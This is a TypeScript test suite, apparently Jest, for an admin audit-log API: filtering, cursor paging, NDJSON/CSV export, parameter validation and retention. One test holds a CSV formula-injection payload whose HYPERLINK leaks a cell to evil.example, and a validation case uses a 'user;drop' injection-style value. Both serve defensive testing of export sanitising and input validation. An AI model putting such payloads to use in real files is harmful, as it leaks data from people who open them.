import { PrismaService } from '@backlot/database';
import { JobQueue } from '@backlot/jobs';
import { AuditRetention, AuditService } from '@backlot/security';
import { v7 as uuidv7 } from 'uuid';
import { parseCsv } from '@backlot/testing/csv';
import { signedInUser, type UserSession } from '@backlot/testing/auth';
import { json, startTestApp, type TestApp } from '@backlot/testing/test-app';
import { ADMIN_TEST_ENV, type AdminApp, type AuditEvent, auditEvents, eventually, problem, startAdminApp } from './admin-helpers';

interface AuditPage {
  items: AuditEvent[];
  nextCursor: string | null;
  total?: number;
}

const DAY_MS = 86_400_000;

describe('admin: audit log', () => {
  let app: AdminApp;
  let t: TestApp;
  let admin: UserSession;
  let prisma: PrismaService;
  const tag = `t${Date.now().toString(36)}`;
  const subject = uuidv7();
  let base: number;

  beforeAll(async () => {
    app = await startAdminApp();
    ({ t, admin } = app);
    prisma = t.app.get(PrismaService);
    // A known set of events, one second apart, all about `subject`.
    base = Date.now() - 3_600_000;
    const rows = [
      { action: `${tag}_x.login`, outcome: 'success', actorId: admin.userId },
      { action: `${tag}_x.logout`, outcome: 'success', actorId: admin.userId },
      { action: `${tag}yx.login`, outcome: 'failure', actorId: null },
      { action: `${tag}_x.login`, outcome: 'denied', actorId: admin.userId },
      { action: `${tag}.other`, outcome: 'success', actorId: null },
    ];
    await prisma.auditEvent.createMany({
      data: rows.map((row, i) => ({
        id: uuidv7(),
        at: new Date(base + i * 1000),
        actorType: row.actorId ? 'user' : 'anonymous',
        actorId: row.actorId,
        action: row.action,
        targetType: 'user',
        targetId: subject,
        outcome: row.outcome,
        details: { n: i, note: 'comma, "quote"\nline' },
      })),
    });
  });
  afterAll(() => t.close());

  const list = async (query: Record<string, string>) => {
    const path = `/admin/audit?${new URLSearchParams(query).toString()}`;
    return json<AuditPage>(await app.conforms('GET', path, await admin.request(path)));
  };
  const numbers = (page: AuditPage) => page.items.map((event) => (event.details as { n: number }).n);

  it('filters by target, action (exact or prefix), outcome, actor and time, newest first', async () => {
    expect(numbers(await list({ targetId: subject }))).toEqual([4, 3, 2, 1, 0]);
    expect(numbers(await list({ targetType: 'user', targetId: subject, action: `${tag}_x.login` }))).toEqual([3, 0]);
    expect(numbers(await list({ targetId: subject, action: `${tag}_x.*` }))).toEqual([3, 1, 0]);
    // `_` in a prefix is a character, not a wildcard: `<tag>yx.login` does not match `<tag>_x.*`.
    expect(numbers(await list({ action: `${tag}*` }))).toEqual([4, 3, 2, 1, 0]);
    expect(numbers(await list({ targetId: subject, outcome: 'denied' }))).toEqual([3]);
    expect(numbers(await list({ targetId: subject, actorId: admin.userId }))).toEqual([3, 1, 0]);
    const at = (i: number) => new Date(base + i * 1000).toISOString();
    expect(numbers(await list({ targetId: subject, from: at(1), to: at(3) }))).toEqual([3, 2, 1]);
    expect(numbers(await list({ targetId: subject, from: at(2), to: at(2) }))).toEqual([2]);
    expect(numbers(await list({ targetId: subject, to: at(0) }))).toEqual([0]);
  });

  it('pages with an opaque cursor and counts on request', async () => {
    const first = await list({ targetId: subject, limit: '2', count: 'true' });
    expect(first.total).toBe(5);
    expect(numbers(first)).toEqual([4, 3]);
    const second = await list({ targetId: subject, limit: '2', cursor: first.nextCursor! });
    expect(numbers(second)).toEqual([2, 1]);
    expect(second.total).toBeUndefined();
    const third = await list({ targetId: subject, limit: '2', cursor: second.nextCursor! });
    expect(numbers(third)).toEqual([0]);
    expect(third.nextCursor).toBeNull();
  });

  it('records every admin call as admin.<action> with its outcome, including this log’s own reads', async () => {
    await admin.request('/admin/audit?outcome=nope');
    const events = await auditEvents(admin, { action: 'admin.audit.list', actorId: admin.userId });
    expect(events.some((event) => event.outcome === 'failure' && event.details?.error === 'validation')).toBe(true);
    expect(events.some((event) => event.outcome === 'success')).toBe(true);
  });

  it('records what an export asked for (its query), so the log says which events left', async () => {
    const marker = uuidv7();
    expect((await admin.request(`/admin/audit/export?targetId=${marker}&format=csv`)).status).toBe(200);
    const events = await auditEvents(admin, { action: 'admin.audit.export', actorId: admin.userId });
    expect(events.map((event) => event.details?.query)).toContainEqual({ targetId: marker, format: 'csv' });
  });

  describe('export', () => {
    it('streams NDJSON with the list’s filters, newest first', async () => {
      const path = `/admin/audit/export?targetId=${subject}&action=${encodeURIComponent(`${tag}_x.*`)}`;
      const response = await app.conforms('GET', path, await admin.request(path));
      expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-.+\.ndjson"$/);
      const lines = (await response.text())
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as AuditEvent);
      expect(lines.map((event) => (event.details as { n: number }).n)).toEqual([3, 1, 0]);
      expect(lines[0]).toMatchObject({ action: `${tag}_x.login`, outcome: 'denied', targetType: 'user', targetId: subject });
    });

    it('writes CSV when asked by format or by Accept, with a header row and JSON details', async () => {
      for (const [query, accept] of [
        ['&format=csv', undefined],
        ['', 'text/csv'],
        ['', 'application/x-ndjson;q=0.5, text/csv'],
      ] as const) {
        const path = `/admin/audit/export?targetId=${subject}${query}`;
        const response = await admin.request(path, accept ? { headers: { accept } } : {});
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
        const [header, ...rows] = parseCsv(await response.text());
        expect(header).toEqual([
          'id',
          'at',
          'actorType',
          'actorId',
          'action',
          'targetType',
          'targetId',
          'outcome',
          'ip',
          'userAgent',
          'requestId',
          'details',
        ]);
        expect(rows.map((row) => (JSON.parse(row[11]) as { n: number }).n)).toEqual([4, 3, 2, 1, 0]);
        expect(JSON.parse(rows[0][11])).toEqual({ n: 4, note: 'comma, "quote"\nline' });
      }
      const ndjson = await admin.request(`/admin/audit/export?targetId=${subject}`, {
        headers: { accept: 'text/csv;q=0.5, application/x-ndjson' },
      });
      expect(ndjson.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    });

    it('defuses CSV cells a spreadsheet would run as formulas, and keeps NDJSON exact', async () => {
      const target = uuidv7();
      const userAgent = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
      await prisma.auditEvent.create({
        data: {
          id: uuidv7(),
          actorType: 'anonymous',
          action: `${tag}.login`,
          targetType: 'user',
          targetId: target,
          outcome: 'failure',
          userAgent,
        },
      });
      const [, row] = parseCsv(await (await admin.request(`/admin/audit/export?targetId=${target}&format=csv`)).text());
      expect(row[9]).toBe(`'${userAgent}`);
      const [event] = (await (await admin.request(`/admin/audit/export?targetId=${target}`)).text()).trim().split('\n');
      expect((JSON.parse(event) as AuditEvent).userAgent).toBe(userAgent);
    });

    it('exports every event across many batches, each once, in order', async () => {
      const bulk = uuidv7();
      const count = 1_234;
      await prisma.auditEvent.createMany({
        data: Array.from({ length: count }, (_, i) => ({
          id: uuidv7(),
          at: new Date(base - (count - i) * 10),
          actorType: 'system',
          action: `${tag}.bulk`,
          targetType: 'bulk',
          targetId: bulk,
          outcome: 'success',
          details: { i },
        })),
      });
      const text = await (await admin.request(`/admin/audit/export?targetId=${bulk}`)).text();
      const indexes = text
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as { details: { i: number } }).details.i);
      expect(indexes).toEqual(Array.from({ length: count }, (_, i) => count - 1 - i));
      const csv = parseCsv(await (await admin.request(`/admin/audit/export?targetId=${bulk}&format=csv`)).text());
      expect(csv).toHaveLength(count + 1);
    });

    it('a client that stops reading does not hold up the server', async () => {
      const controller = new AbortController();
      const response = await admin.request('/admin/audit/export', { signal: controller.signal });
      const reader = response.body!.getReader();
      await reader.read();
      controller.abort();
      await reader.cancel().catch(() => undefined);
      expect((await admin.request('/admin/audit?limit=1')).status).toBe(200);
    });

    it('answers an empty export with an empty body (NDJSON) or just the header (CSV)', async () => {
      const none = uuidv7();
      expect(await (await admin.request(`/admin/audit/export?targetId=${none}`)).text()).toBe('');
      expect(parseCsv(await (await admin.request(`/admin/audit/export?targetId=${none}&format=csv`)).text())).toHaveLength(1);
    });
  });

  it('refuses malformed filters, paging and formats with a 400 naming the parameter', async () => {
    // A cursor is base64url of [createdAt ISO string, id]; these carry dates JavaScript reads but PostgreSQL cannot store.
    const forged = (at: string) => Buffer.from(JSON.stringify([at, uuidv7()])).toString('base64url');
    const cases: [string, Record<string, string>, string][] = [
      ['/admin/audit', { actorId: 'me' }, 'actorId'],
      ['/admin/audit', { action: 'auth login' }, 'action'],
      ['/admin/audit', { action: '*' }, 'action'],
      ['/admin/audit', { action: 'auth.*.x' }, 'action'],
      ['/admin/audit', { action: 'a'.repeat(70) }, 'action'],
      ['/admin/audit', { targetType: 'user;drop' }, 'targetType'],
      ['/admin/audit', { targetType: 'x'.repeat(33) }, 'targetType'],
      ['/admin/audit', { targetId: 'x'.repeat(255) }, 'targetId'],
      ['/admin/audit', { targetId: '' }, 'targetId'],
      ['/admin/audit', { outcome: 'ok' }, 'outcome'],
      ['/admin/audit', { from: 'last week' }, 'from'],
      ['/admin/audit', { to: '2026-02-30T00:00:00Z' }, 'to'],
      ['/admin/audit', { from: '2026-W01' }, 'from'],
      ['/admin/audit', { to: '20261101' }, 'to'],
      ['/admin/audit', { from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'from'],
      ['/admin/audit', { limit: '0' }, 'limit'],
      ['/admin/audit', { limit: '201' }, 'limit'],
      ['/admin/audit', { limit: 'abc' }, 'limit'],
      ['/admin/audit', { cursor: '!!' }, 'cursor'],
      ['/admin/audit', { cursor: Buffer.from('[1,2]').toString('base64url') }, 'cursor'],
      ['/admin/audit', { cursor: forged('-005000-01-01T00:00:00.000Z') }, 'cursor'],
      ['/admin/audit', { cursor: forged('+275760-09-13T00:00:00.000Z') }, 'cursor'],
      ['/admin/audit', { cursor: forged('0000-01-01T00:00:00.000Z') }, 'cursor'],
      ['/admin/audit', { count: 'yes' }, 'count'],
      ['/admin/audit', { actor: admin.userId }, 'actor'],
      ['/admin/audit/export', { format: 'xml' }, 'format'],
      ['/admin/audit/export', { from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'from'],
      ['/admin/audit/export', { outcome: 'ok' }, 'outcome'],
      ['/admin/audit/export', { to: '2026-W01-1' }, 'to'],
      ['/admin/audit/export', { limit: '10' }, 'limit'],
    ];
    for (const [route, query, path] of cases) {
      const url = `${route}?${new URLSearchParams(query).toString()}`;
      const body = await problem(await app.conforms('GET', url, await admin.request(url)), 400);
      expect({ url, paths: body.errors?.map((error) => error.path) }).toEqual({ url, paths: expect.arrayContaining([path]) });
    }
  });
});

describe('admin: audit retention', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ env: { ...ADMIN_TEST_ENV, AUDIT_RETENTION_DAYS: '30' } });
  });
  afterAll(() => t.close());

  it('the audit.retention job deletes events older than AUDIT_RETENTION_DAYS and audits the purge', async () => {
    const prisma = t.app.get(PrismaService);
    const old = { actorType: 'system', action: 'test.old', outcome: 'success' };
    await prisma.auditEvent.createMany({
      data: [
        { id: uuidv7(), at: new Date(Date.now() - 400 * DAY_MS), ...old },
        { id: uuidv7(), at: new Date(Date.now() - 31 * DAY_MS), ...old },
        { id: uuidv7(), at: new Date(Date.now() - 29 * DAY_MS), ...old, action: 'test.recent' },
      ],
    });
    const admin = await signedInUser(t, { role: 'admin' });
    const schedules = await json<{ name: string; cron: string }[]>(await admin.request('/admin/jobs/schedules'));
    expect(schedules).toContainEqual(expect.objectContaining({ name: 'audit.retention', cron: '30 2 * * *' }));

    const queue = t.app.get(JobQueue);
    const id = (await queue.enqueue('audit.retention', {}))!;
    await eventually(async () => (await queue.get(id)).state === 'completed');

    expect(await prisma.auditEvent.count({ where: { action: 'test.old' } })).toBe(0);
    expect(await prisma.auditEvent.count({ where: { action: 'test.recent' } })).toBe(1);
    const [purge] = await auditEvents(admin, { action: 'audit.retention' });
    expect(purge).toMatchObject({ actorType: 'system', outcome: 'success', details: { deleted: 2, retentionDays: 30 } });
  });

  it('deletes in batches until nothing old is left', async () => {
    const prisma = t.app.get(PrismaService);
    await prisma.auditEvent.createMany({
      data: Array.from({ length: 1_100 }, () => ({
        id: uuidv7(),
        at: new Date(Date.now() - 60 * DAY_MS),
        actorType: 'system',
        action: 'test.bulk-old',
        outcome: 'success',
      })),
    });
    expect(await t.app.get(AuditRetention).run()).toBe(1_100);
    expect(await prisma.auditEvent.count({ where: { action: 'test.bulk-old' } })).toBe(0);
  });
});

describe('admin: audit retention switched off', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ env: { ...ADMIN_TEST_ENV, AUDIT_RETENTION_DAYS: '0' } });
  });
  afterAll(() => t.close());

  it('AUDIT_RETENTION_DAYS=0 keeps every event and schedules nothing', async () => {
    const prisma = t.app.get(PrismaService);
    await t.app.get(AuditService).record({ action: 'test.kept', outcome: 'success', actor: { type: 'system' } });
    await prisma.auditEvent.updateMany({ where: { action: 'test.kept' }, data: { at: new Date(Date.now() - 10_000 * DAY_MS) } });
    expect(await t.app.get(AuditRetention).run()).toBeNull();
    expect(await prisma.auditEvent.count({ where: { action: 'test.kept' } })).toBe(1);
    const admin = await signedInUser(t, { role: 'admin' });
    const schedules = await json<{ name: string }[]>(await admin.request('/admin/jobs/schedules'));
    expect(schedules.map((schedule) => schedule.name)).not.toContain('audit.retention');
  });
});
